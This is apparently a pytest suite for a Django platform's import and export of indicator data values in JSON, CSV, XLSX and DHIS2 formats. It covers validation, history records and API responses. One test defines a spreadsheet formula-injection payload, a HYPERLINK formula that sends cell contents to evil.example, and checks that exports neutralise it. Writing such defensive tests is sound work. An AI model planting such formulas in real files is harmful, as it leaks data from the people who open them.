import io
import json
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from duikou.accounts.services import issue_token
from duikou.core.errors import UserFacingError
from duikou.indicators import services, transfer
from duikou.indicators.models import DataValue
from duikou.plans.tests.factories import people

from .factories import fill, report

pytestmark = pytest.mark.django_db


@pytest.fixture
def who():
    return people()


def dvs(*rows):
    return json.dumps(
        {"dataValues": [dict(zip(["dataElement", "period", "orgUnit", "value"], r, strict=True)) for r in rows]}
    ).encode()


def code(old="信阳市", partner="苏州市"):
    return report(old=old, partner=partner).pairing.code


def test_datavaluesets_round_trip_into_an_empty_database(who):
    fill(who["xy_editor"], report())
    exported, _name, _type = transfer.export_values(DataValue.objects.all(), "json")
    before = sorted(DataValue.objects.values_list("pairing__code", "indicator_id", "period", "value"))
    DataValue.objects.all().delete()
    result = transfer.import_values(user=who["xy_editor"], data=exported, filename="dataValueSets.json")
    assert result["new"] == 11
    assert sorted(DataValue.objects.values_list("pairing__code", "indicator_id", "period", "value")) == before


def test_reimport_is_idempotent(who):
    data = dvs(("signed_projects", "2025Q3", code(), "6"), ("signed_amount_wan", "2025Q3", code(), "12.5"))
    first = transfer.import_values(user=who["xy_editor"], data=data, filename="a.json")
    again = transfer.import_values(user=who["xy_editor"], data=data, filename="a.json")
    assert (first["new"], again["new"], again["changed"], again["unchanged"]) == (2, 0, 0, 2)
    assert DataValue.objects.get(indicator="signed_amount_wan").value == 12.5


def test_dry_run_writes_nothing(who):
    result = transfer.import_values(
        user=who["xy_editor"], data=dvs(("signed_projects", "2025Q3", code(), "6")), filename="a.json", dry_run=True
    )
    assert result["new"] == 1 and "试导入" in result["summary"] and not DataValue.objects.exists()


def test_unknown_indicator_region_and_locked_value_load_nothing_and_are_all_reported(who):
    rep = services.submit_report(user=who["xy_editor"], report=fill(who["xy_editor"], report()))
    services.approve_report(user=who["henan"], report=rep)
    data = dvs(
        ("training_persons", "2025Q4", code(), "10"),  # fine on its own
        ("no_such_indicator", "2025Q4", code(), "1"),
        ("signed_projects", "2025Q4", "N99", "1"),
        ("signed_projects", "2025Q3", code(), "7"),  # locked
        ("signed_projects", "2025Q9", code(), "7"),
        ("signed_projects", "2025Q4", code(), "七"),
    )
    with pytest.raises(UserFacingError) as exc:
        transfer.import_values(user=who["xy_editor"], data=data, filename="bad.json")
    reasons = {e["row"]: e["reason"] for e in exc.value.details["errors"]}
    assert "未知指标「no_such_indicator」" in reasons[2]
    assert "N99" in reasons[3]
    assert "锁定" in reasons[4]
    assert "2025Q9" in reasons[5]
    assert "不是有效数字" in reasons[6]
    assert not DataValue.objects.filter(period="2025Q4").exists()
    assert DataValue.objects.get(indicator="signed_projects", period="2025Q3").value == 6


def test_out_of_scope_pairing_is_refused(who):
    with pytest.raises(UserFacingError) as exc:
        transfer.import_values(
            user=who["xy_editor"],
            data=dvs(("signed_projects", "2025Q3", code("延安市", "无锡市"), "1")),
            filename="a.json",
        )
    assert exc.value.details["errors"][0]["column"] == "orgUnit"


def test_the_api_answers_a_file_with_conflicts_409_listing_them_and_writes_nothing(who, client):
    _token, key = issue_token(user=who["xy_editor"], name="t")
    body = dvs(("signed_projects", "2025Q4", code(), "1"), ("no_such_indicator", "2025Q4", code(), "1"))
    response = client.post(
        "/api/indicators/dataValueSets", body, content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {key}"
    )
    assert response.status_code == 409 and response["Content-Type"].startswith("application/json")
    answer = response.json()
    assert answer["detail"] and [c["row"] for c in answer["conflicts"]] == [2]
    assert "未知指标「no_such_indicator」" in answer["conflicts"][0]["value"]
    assert not DataValue.objects.filter(period="2025Q4").exists()


def test_csv_and_xlsx_import_the_same_rows(who):
    csv_data = f"dataElement,period,orgUnit,value,comment\nsigned_projects,2025Q3,{code()},6,首批\n".encode()
    assert transfer.import_values(user=who["xy_editor"], data=csv_data, filename="v.csv")["new"] == 1
    content, _n, _t = transfer.export_values(DataValue.objects.all(), "xlsx")
    import io

    sheet = load_workbook(io.BytesIO(content)).active
    assert [c.value for c in sheet[2]][:4] == ["signed_projects", "2025Q3", code(), 6]  # the value is a number cell
    DataValue.objects.all().delete()
    assert transfer.import_values(user=who["xy_editor"], data=content, filename="v.xlsx")["new"] == 1
    assert DataValue.objects.get().comment == "首批"


@pytest.mark.parametrize(
    ("data", "name", "message"),
    [
        (b"\xff\xfe", "x.csv", "UTF-8"),
        (b"a,b\n1,2\n", "x.csv", "缺少列"),
        (b"{", "x.json", "JSON"),
        (b'{"x": 1}', "x.json", "dataValues"),
        (b"PK..", "x.xlsx", ".xlsx"),
        (b"", "x.txt", "格式无法识别"),
    ],
)
def test_unreadable_file_is_one_clear_error(who, data, name, message):
    with pytest.raises(UserFacingError, match=message):
        transfer.import_values(user=who["xy_editor"], data=data, filename=name)


def test_each_value_created_by_an_import_has_its_history_row_naming_the_import(who):
    from auditlog.models import LogEntry

    from duikou.indicators.models import DataValueHistory, ValueImport

    data = dvs(("signed_amount_wan", "2025Q3", code(), "12.5"), ("signed_projects", "2025Q3", code(), "6"))
    transfer.import_values(user=who["xy_editor"], data=data, filename="a.json", dry_run=True)
    assert not DataValueHistory.objects.exists() and not ValueImport.objects.exists()  # a dry run writes no history
    transfer.import_values(user=who["xy_editor"], data=data, filename="a.json")
    record = ValueImport.objects.get()
    assert (record.filename, record.user, record.new, record.changed) == ("a.json", who["xy_editor"], 2, 0)
    for indicator, number in [("signed_amount_wan", Decimal("12.5")), ("signed_projects", Decimal(6))]:
        value = DataValue.objects.get(indicator=indicator)
        row = DataValueHistory.objects.get(value=value)
        assert (row.kind, row.old_value, row.new_value, row.value_import) == ("created", None, number, record)
        assert (row.pairing_id, row.indicator_id, row.period, row.option_id) == (
            value.pairing_id,
            indicator,
            "2025Q3",
            None,
        )
    # the audit log holds one entry for the import, none per value
    assert not LogEntry.objects.filter(content_type__model="datavalue").exists()
    entry = LogEntry.objects.get(content_type__model="valueimport")
    assert entry.actor == who["xy_editor"] and entry.object_pk == str(record.pk) and entry.action == 0
    assert entry.changes_dict["filename"][1] == "a.json" and entry.changes_dict["new"][1] == "2"
    transfer.import_values(user=who["xy_editor"], data=data, filename="a.json")  # unchanged: nothing to record
    assert DataValueHistory.objects.count() == 2 and ValueImport.objects.count() == 1
    assert LogEntry.objects.filter(content_type__model="valueimport").count() == 1


def test_values_are_not_written_without_their_history(who, monkeypatch):
    from duikou.indicators.models import DataValueHistory, ValueImport

    def history_down(*args, **kwargs):
        raise RuntimeError("history unavailable")

    monkeypatch.setattr(transfer, "_write_history", history_down)
    with pytest.raises(RuntimeError):
        transfer.import_values(
            user=who["xy_editor"], data=dvs(("signed_amount_wan", "2025Q3", code(), "12.5")), filename="a.json"
        )
    # one transaction: no value without its history, and no record of an import that did not happen
    assert not DataValue.objects.exists() and not ValueImport.objects.exists()
    assert not DataValueHistory.objects.exists()


def test_a_refused_import_writes_no_history(who):
    from auditlog.models import LogEntry

    from duikou.indicators.models import DataValueHistory, ValueImport

    data = dvs(("signed_projects", "2025Q3", code(), "6"), ("no_such_indicator", "2025Q3", code(), "1"))
    with pytest.raises(UserFacingError):
        transfer.import_values(user=who["xy_editor"], data=data, filename="bad.json")
    assert not DataValueHistory.objects.exists() and not ValueImport.objects.exists()
    assert not LogEntry.objects.filter(content_type__model="valueimport").exists()


def test_an_overwrite_by_import_keeps_before_and_after_in_the_value_history(who):
    from duikou.indicators.models import DataValueHistory

    transfer.import_values(
        user=who["xy_editor"], data=dvs(("signed_amount_wan", "2025Q3", code(), "12.5")), filename="a.json"
    )
    body = f"dataElement,period,orgUnit,value,comment\nsigned_amount_wan,2025Q3,{code()},20,调整口径\n".encode()
    result = transfer.import_values(user=who["henan"], data=body, filename="b.csv")
    assert result["changed"] == 1
    value = DataValue.objects.get(indicator="signed_amount_wan")
    first, second = DataValueHistory.objects.filter(value=value).order_by("id")
    assert first.kind == "created" and second.kind == "updated"
    assert (second.old_value, second.new_value, second.old_comment, second.new_comment) == (
        Decimal("12.5"),
        Decimal(20),
        "",
        "调整口径",
    )
    assert second.value_import.filename == "b.csv" and second.value_import.user == who["henan"]


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_a_file_with_more_rows_than_the_limit_is_refused_before_any_row_is_checked(who, settings, fmt):
    settings.DUIKOU_UPLOAD_MAX_ROWS = 100
    rows = [("signed_projects", "2025Q3", code(), str(n)) for n in range(150)]
    data = dvs(*rows) if fmt == "json" else ("\n".join(["dataElement,period,orgUnit,value", *map(",".join, rows)]))
    data = data if isinstance(data, bytes) else data.encode()
    with pytest.raises(UserFacingError, match=f"「v.{fmt}」超过单次导入上限 100 行") as exc:
        transfer.import_values(user=who["xy_editor"], data=data, filename=f"v.{fmt}")
    assert len(exc.value.details["errors"]) == 1  # one refusal of the file, not a report on each of its rows
    assert not DataValue.objects.exists()


LINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击")'


def test_a_formula_in_a_comment_is_text_in_the_exports_and_reimports_unchanged(who):
    item = {"dataElement": "signed_projects", "period": "2025Q3", "orgUnit": code(), "value": "-3", "comment": LINK}
    transfer.import_values(user=who["xy_editor"], data=json.dumps({"dataValues": [item]}).encode(), filename="v.json")
    xlsx, _n, _t = transfer.export_values(DataValue.objects.all(), "xlsx")
    cells = list(load_workbook(io.BytesIO(xlsx)).active.iter_rows(min_row=2))[0]
    assert [(c.value, c.data_type) for c in cells[3:5]] == [(-3, "n"), ("'" + LINK, "s")]  # a negative number stays one
    assert cells[5].value is None  # a total: no category option combo
    text, _n, _t = transfer.export_values(DataValue.objects.all(), "csv")
    assert (
        text.decode("utf-8-sig")
        .splitlines()[1]
        .endswith(',-3,"\'=HYPERLINK(""http://evil.example/?d=""&A2,""点击"")",')
    )
    for data, name in ((xlsx, "v.xlsx"), (text, "v.csv")):
        assert transfer.import_values(user=who["xy_editor"], data=data, filename=name)["unchanged"] == 1, name
    assert DataValue.objects.get().comment == LINK


# --- dataValueSets as DHIS2 writes them (its documentation's examples, with this platform's codes) -----------------


def test_a_dhis2_set_gives_period_and_org_unit_once_and_each_value_inherits_them(who):
    body = json.dumps(
        {
            "dataSet": "quarterly",
            "completeDate": "2025-10-10",
            "period": "2025Q3",
            "orgUnit": code(),
            "attributeOptionCombo": "HllvX50cXC0",
            "dataValues": [
                {"dataElement": "signed_projects", "categoryOptionCombo": "HllvX50cXC0", "value": "5",
                 "storedBy": "admin", "created": "2025-10-01T10:00:00.000", "lastUpdated": "2025-10-01T10:00:00.000",
                 "followup": False, "comment": "首批"},
                {"dataElement": "signed_amount_wan", "value": "12.5", "period": "2025Q2"},  # its own period wins
            ],
        }
    ).encode()  # fmt: skip
    result = transfer.import_values(user=who["xy_editor"], data=body, filename="dataValueSets.json")
    assert result["status"] == "SUCCESS"
    assert result["importCount"] == {"imported": 2, "updated": 0, "ignored": 0, "deleted": 0}
    stored = sorted(DataValue.objects.values_list("indicator_id", "period", "value", "comment"))
    assert stored == [
        ("signed_amount_wan", "2025Q2", Decimal("12.5"), ""),
        ("signed_projects", "2025Q3", Decimal("5"), "首批"),
    ]
    again = transfer.import_values(user=who["xy_editor"], data=body, filename="dataValueSets.json")
    assert again["importCount"] == {"imported": 0, "updated": 0, "ignored": 2, "deleted": 0}


def test_a_breakdown_combo_or_an_unknown_data_set_is_refused_by_name(who):
    body = {"period": "2025Q3", "orgUnit": code(), "dataValues": [
        {"dataElement": "signed_projects", "categoryOptionCombo": "Prlt0C1RF0s", "value": "3"},
    ]}  # fmt: skip
    with pytest.raises(UserFacingError) as exc:
        transfer.import_values(user=who["xy_editor"], data=json.dumps(body).encode(), filename="a.json")
    error = exc.value.details["errors"][0]
    assert (error["row"], error["column"], error["value"]) == (1, "categoryOptionCombo", "Prlt0C1RF0s")
    body = {**body, "dataSet": "no_such_set", "dataValues": [{"dataElement": "signed_projects", "value": "3"}]}
    with pytest.raises(UserFacingError, match="no_such_set"):
        transfer.import_values(user=who["xy_editor"], data=json.dumps(body).encode(), filename="a.json")
    assert not DataValue.objects.exists()


def test_dhis2_csv_columns_are_read(who):
    columns = "dataelement period orgunit categoryoptioncombo attributeoptioncombo value storedby lastupdated comment"
    header = ",".join([*columns.split(), "followup"])
    row = f"signed_projects,2025Q3,{code()},HllvX50cXC0,HllvX50cXC0,7,admin,2025-10-01,来自DHIS2,false"
    result = transfer.import_values(user=who["xy_editor"], data=f"{header}\n{row}\n".encode(), filename="dhis2.csv")
    assert result["importCount"]["imported"] == 1
    assert DataValue.objects.get().comment == "来自DHIS2"


def test_the_api_answers_in_dhis2s_summary_shape(who, client):
    _token, key = issue_token(user=who["xy_editor"], name="t")
    body = json.dumps({"period": "2025Q4", "orgUnit": code(), "dataValues": [
        {"dataElement": "signed_projects", "value": "2"}]})  # fmt: skip
    answer = client.post(
        "/api/indicators/dataValueSets", body, content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {key}"
    ).json()
    assert answer["status"] == "SUCCESS" and answer["importCount"]["imported"] == 1
    bad = json.dumps(
        {"period": "2025Q4", "orgUnit": "N99", "dataValues": [{"dataElement": "signed_projects", "value": "2"}]}
    )
    refused = client.post(
        "/api/indicators/dataValueSets", bad, content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {key}"
    )
    assert refused.status_code == 409 and refused.json()["status"] == "ERROR"
    assert refused.json()["conflicts"][0]["column"] == "orgUnit"


def test_a_large_import_leaves_the_analytics_store_to_a_job_after_its_commit(
    who, monkeypatch, django_capture_on_commit_callbacks
):
    from duikou.core.models import Job
    from duikou.indicators import analytics

    monkeypatch.setattr(transfer, "STORE_INLINE_MAX", 1)
    data = dvs(("signed_amount_wan", "2025Q3", code(), "12.5"), ("signed_projects", "2025Q3", code(), "6"))
    with django_capture_on_commit_callbacks(execute=True) as started:
        transfer.import_values(user=who["xy_editor"], data=data, filename="a.json")
    assert len(started) == 1  # started once the import's transaction is committed, not before
    job = Job.objects.get(kind="indicators-analytics")  # run at once in tests (inline jobs)
    assert job.status == Job.Status.DONE and job.user == who["xy_editor"]
    con = analytics._connect()
    try:
        stored = con.execute("SELECT indicator, value FROM facts WHERE period = '2025Q3' ORDER BY 1").fetchall()
    finally:
        con.close()
    assert [(i, float(v)) for i, v in stored] == [("signed_amount_wan", 12.5), ("signed_projects", 6.0)]
